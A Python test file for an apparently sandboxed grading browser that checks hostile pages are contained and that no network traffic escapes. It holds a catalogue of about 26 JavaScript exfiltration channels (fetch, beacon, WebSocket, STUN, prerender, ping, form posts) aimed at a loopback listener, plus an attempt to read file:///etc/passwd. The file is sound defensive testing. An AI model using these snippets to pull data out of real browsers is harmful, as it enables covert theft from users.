# ruff: noqa: E501
"""Pages that mean harm: each is answered, the next page is right, memory comes back, nothing is left, nothing gets out."""

import socket
import threading

import pytest

from rewards.frontend.browser import Browser
from rewards.frontend.conduct import ORIGIN
from rewards.frontend.judgement import assess
from rewards.frontend.launch import _alive
from tests.integration.rewards.frontend.hostile import PAGES
from tests.integration.rewards.frontend.pages import TASKS

QUICK = (
    "endless loop",
    "heap bomb",
    "console flood",
    "alert flood",
    "reloads for ever",
    "functions replaced",
    "popup flood",
)


@pytest.fixture(scope="module")
def measured():
    with Browser() as browser:
        value = assess(browser, TASKS).total
        yield browser, value, browser.process.memory(), set()


@pytest.mark.parametrize(
    "name", [pytest.param(each, marks=[] if each in QUICK else pytest.mark.slow) for each in PAGES]
)
def test_a_hostile_page_is_answered_and_the_next_is_right(measured, name):
    browser, value, memory, _ = measured
    pids = browser.process.pids()
    judged = assess(browser, PAGES[name])
    assert 0 <= judged.total < 0.8
    assert assess(browser, TASKS).total == pytest.approx(value, abs=0.005)
    assert browser.process.memory() < memory + 60e6
    if browser.process.pids()[0] != pids[0]:
        assert not [pid for pid in pids if _alive(pid)]


CHANNELS = {
    "fetch": "fetch(H)",
    "fetch without CORS": "fetch(H, {mode: 'no-cors', method: 'POST', body: 'x'})",
    "XMLHttpRequest": "{const x = new XMLHttpRequest(); x.open('GET', H); x.send()}",
    "beacon": "navigator.sendBeacon(H, 'x')",
    "picture": "new Image().src = H",
    "script": "add('script', {src: H})",
    "style sheet": "add('link', {rel: 'stylesheet', href: H})",
    "preconnect": "add('link', {rel: 'preconnect', href: H})",
    "DNS prefetch": "add('link', {rel: 'dns-prefetch', href: H})",
    "prefetch": "add('link', {rel: 'prefetch', href: H})",
    "prerender": "add('script', {type: 'speculationrules', textContent: JSON.stringify({prerender: [{source: 'list', urls: [H]}]})})",
    "CSS picture": "document.body.style.backgroundImage = `url(${H})`",
    "font": "new FontFace('f', `url(${H})`).load().catch(() => {})",
    "WebSocket": "new WebSocket(H.replace('http', 'ws'))",
    "EventSource": "new EventSource(H)",
    "frame": "add('iframe', {src: H})",
    "form": "{const f = add('form', {action: H, method: 'post', target: 'inner'}); add('iframe', {name: 'inner'}); f.submit()}",
    "popup": "open(H)",
    "STUN": "{const p = new RTCPeerConnection({iceServers: [{urls: H.replace('http://', 'stun:').replace(/[/].*/, '')}]}); p.createDataChannel('d'); p.createOffer().then((o) => p.setLocalDescription(o))}",
    "WebTransport": "new WebTransport(H.replace('http', 'https'))",
    "media": "add('video', {src: H, autoplay: true})",
    "module": "import(H).catch(() => {})",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${H}')`])))",
    "ping": "{const a = add('a', {href: '#x', ping: H}); a.click()}",
    "object": "add('object', {data: H})",
    "navigation": "setTimeout(() => { location.href = H }, 200)",
}  # fmt: skip


class Listener:
    """Counts what arrives at one port of loopback by TCP and UDP."""

    def __init__(self):
        self.heard = 0
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        for wait in (self.tcp.accept, lambda: self.udp.recvfrom(100)):
            threading.Thread(target=self._listen, args=(wait,), daemon=True).start()

    def _listen(self, wait):
        while True:
            try:
                wait()
            except OSError:
                return
            self.heard += 1


def test_nothing_gets_out_on_any_channel(browser):
    listener = Listener()
    source = "".join(f"try {{ {each} }} catch {{}}\n" for each in CHANNELS.values())
    add = "const add = (tag, given) => { const e = Object.assign(document.createElement(tag), given); document.body.append(e); return e };"
    page = f"<!DOCTYPE html><body><h1>Some words to see</h1><script>const H = 'http://127.0.0.1:{listener.port}/x'; {add}\n{source}</script>"
    with browser.page({"": page.encode()}, 1280, 800) as tab:
        tab.load()
        tab.run(3000)
        # The channels were really tried: requests that interception sees were refused by it.
        assert len([url for url in tab.seen.blocked if str(listener.port) in url]) >= 8
        assert tab.evaluate("() => location.origin") == ORIGIN
    assert listener.heard == 0
    # The listener does hear.
    socket.create_connection(("127.0.0.1", listener.port)).close()
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", listener.port))
    for _ in range(50):
        if listener.heard == 2:
            break
        threading.Event().wait(0.1)
    assert listener.heard == 2


def test_the_namespace_has_nothing_that_is_up(browser):
    import subprocess

    from rewards.frontend.launch import cage

    listed = subprocess.run(
        [*cage(), "cat", "/proc/net/dev", "/proc/net/route"], capture_output=True, text=True, check=True
    )
    names = [line.split(":")[0].strip() for line in listed.stdout.splitlines() if ":" in line]
    assert names == ["lo"]
    assert "\n" not in listed.stdout.partition("Iface")[2].strip()


def test_files_of_the_machine_are_out_of_reach(browser):
    page = b"<!DOCTYPE html><body><p>x</p><iframe src='file:///etc/passwd'></iframe><script>fetch('file:///etc/passwd').then(()=>document.title='read').catch(()=>document.title='refused')</script>"
    with browser.page({"": page}, 1280, 800) as tab:
        tab.load()
        tab.run(500)
        assert tab.evaluate("() => document.title") == "refused"
        assert tab.evaluate(
            "() => frames.length && (() => { try { return frames[0].document.body.textContent } catch { return '' } })()"
        ) in ("", 0)
